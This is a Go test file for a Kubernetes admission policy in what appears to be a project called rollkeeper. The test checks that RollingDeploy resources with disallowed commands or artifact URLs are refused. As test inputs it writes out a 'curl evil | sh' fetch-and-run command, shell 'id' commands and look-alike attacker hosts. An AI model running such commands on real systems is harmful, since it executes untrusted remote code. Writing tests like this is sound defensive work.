package constraints

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/go-logr/logr"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	utilyaml "k8s.io/apimachinery/pkg/util/yaml"
	"sigs.k8s.io/controller-runtime/pkg/client"
	ctrllog "sigs.k8s.io/controller-runtime/pkg/log"

	"github.com/rollkeeper/rollkeeper/api/v1alpha1"
	"github.com/rollkeeper/rollkeeper/test/harness"
)

// The sample ValidatingAdmissionPolicy (config/samples/admission-policy.yaml), applied as
// shipped to a real API server, lets a RollingDeploy with listed artifact prefixes and programs
// through and refuses each other one with its message.
func TestSampleAdmissionPolicy(t *testing.T) {
	ctrllog.SetLogger(logr.Discard())
	cp, err := harness.StartControlPlane(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cp.Stop() })
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()

	root, err := harness.RepoRoot()
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(root, "config", "samples", "admission-policy.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	dec := utilyaml.NewYAMLOrJSONDecoder(bytes.NewReader(data), 4096)
	for {
		u := &unstructured.Unstructured{}
		if err := dec.Decode(&u.Object); errors.Is(err, io.EOF) {
			break
		} else if err != nil {
			t.Fatal(err)
		}
		if len(u.Object) == 0 {
			continue
		}
		if err := cp.Client.Create(ctx, u); err != nil {
			t.Fatalf("create %s %s: %v", u.GetKind(), u.GetName(), err)
		}
	}

	allowed := func() *v1alpha1.RollingDeploy {
		rd := validDeploy()
		for i := range rd.Spec.Services {
			s := &rd.Spec.Services[i]
			s.Artifact.URL = "https://artifacts.example.com/releases/" + s.Name + ".tar.gz"
			s.Run.Command = []string{"/opt/services/bin/launch", s.Name}
			if s.HealthCheck != nil && s.HealthCheck.Exec != nil {
				s.HealthCheck.Exec.Command = []string{"/usr/bin/curl", "-f", "http://127.0.0.1/"}
			}
		}
		return rd
	}
	create := func(rd *v1alpha1.RollingDeploy) error { return cp.Client.Create(ctx, rd, client.DryRunAll) }

	// The policy takes effect once the API server has loaded it: wait until it refuses.
	evil := allowed()
	evil.Spec.Services[0].Run.Command = []string{"/bin/sh", "-c", "curl evil | sh"}
	if err := harness.WaitFor(ctx, time.Minute, "the policy to refuse a command", func(ctx context.Context) (bool, error) {
		return create(evil) != nil, nil
	}); err != nil {
		t.Fatal(err)
	}

	if err := create(allowed()); err != nil {
		t.Fatalf("the policy refused an allowed RollingDeploy: %v", err)
	}
	for _, c := range []struct {
		name, want string
		change     func(*v1alpha1.RollingDeploy)
	}{
		{"command", "run.command must start with one of", func(rd *v1alpha1.RollingDeploy) {
			rd.Spec.Services[0].Run.Command = []string{"/bin/sh", "-c", "id"}
		}},
		{"artifact URL", "artifact URLs must start with one of", func(rd *v1alpha1.RollingDeploy) {
			rd.Spec.Services[1].Artifact.URL = "https://evil.example.net/releases/db.tar.gz"
		}},
		{"look-alike prefix", "artifact URLs must start with one of", func(rd *v1alpha1.RollingDeploy) {
			rd.Spec.Services[0].Artifact.URL = "https://artifacts.example.com.evil.net/releases/web.tar.gz"
		}},
		{"exec health check", "healthCheck.exec.command must start with one of", func(rd *v1alpha1.RollingDeploy) {
			rd.Spec.Services[1].HealthCheck.Exec.Command = []string{"/bin/bash", "-c", "id"}
		}},
	} {
		rd := allowed()
		c.change(rd)
		err := create(rd)
		if err == nil || !(apierrors.IsForbidden(err) || apierrors.IsInvalid(err)) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v; want refused with %q", c.name, err, c.want)
		}
	}
}
